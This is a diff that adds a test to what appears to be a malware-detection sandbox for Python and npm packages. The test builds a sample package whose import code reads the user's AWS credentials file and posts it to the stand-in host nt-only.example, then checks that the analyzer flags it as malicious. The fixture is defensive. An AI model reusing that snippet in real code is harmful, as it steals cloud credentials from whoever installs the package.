@@ -165,3 +165,21 @@ def test_npm_lifecycle_scripts_run_when_a_dependency_cannot_be_installed(tmp_pat
     assert any(e["http"]["target"] == "/p" and e["hostname"] == "npm-drop.example" for e in _http(install))
     v = docs["report"]["verdict"]
     assert v["label"] == "malicious" and "DYN-ENV-IN-PAYLOAD" in v["rules_fired"]
+
+
+def test_installed_module_dying_at_windows_imports_is_imported_again_with_standins(tmp_path, results):
+    # pip installs it; its import dies at `import winreg`, and it uses an undeclared `requests`
+    init = ("import os, winreg, win32crypt\n"
+            "if os.name == 'nt':\n"
+            "    key = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+            "    __import__('requests').post('http://nt-only.example/c', data=key, timeout=5)\n")
+    docs = _analyze(pypi_sdist(tmp_path, "ntgate", "1.0.0", _setup("ntgate", "", init)), results)
+    dyn = docs["report"]["dynamic"]
+    assert "fallback" not in dyn["phases"]["install"]          # pip installed it
+    assert dyn["phases"]["install"]["imports"]["packages"] == ["requests"]
+    imp = dyn["phases"]["import"]
+    assert imp["retried_with_standins"] == ["ntgate"]
+    assert {"winreg", "win32crypt"} <= set(imp["standins"]) and imp["windows_checks"] >= 1
+    assert any(e["hostname"] == "nt-only.example" for e in _http(imp))
+    v = docs["report"]["verdict"]
+    assert v["label"] == "malicious" and "DYN-BAIT-READ" in v["rules_fired"]
